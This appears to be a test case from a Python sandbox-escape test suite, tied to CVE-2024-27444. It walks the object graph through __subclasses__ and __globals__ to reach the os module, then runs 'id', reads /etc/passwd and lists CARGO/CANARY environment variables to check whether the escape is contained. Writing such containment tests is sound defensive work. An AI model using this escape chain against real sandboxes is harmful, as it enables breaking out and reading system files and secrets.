# /// case
# technique = "object-graph"
# analysis = ["forbidden-attribute", "dynamic-attribute"]
# without_analysis = "contained"
# reference = "CVE-2024-27444"
# ///
# The same, by every name that the second fix left: bases, subclasses, globals, getattribute.
def solution():
    kind = "".__class__
    base = kind.__mro__[-1]
    children = base.__getattribute__(base, "__subclasses__")()
    for child in children:
        names = getattr(child.__init__, "__globals__", None) if "__init__" in child.__dict__ else None
        if names and "__builtins__" in names and "sys" in names:
            return names["sys"].modules.get("os")

found = solution()

def probe(os):
    actions = (
        lambda: os.popen("id").read(),
        lambda: os.read(os.open("/etc/passwd", os.O_RDONLY), 64).decode(),
        lambda: " ".join(key for key in os.environ if key.startswith(("CARGO", "CANARY"))),
    )
    for action in actions:
        try:
            text = action()
        except BaseException as error:
            print("contained", type(error).__name__)
            continue
        print("ESCAPED " + text[:40] if text.strip() else "contained, empty")

probe(found)
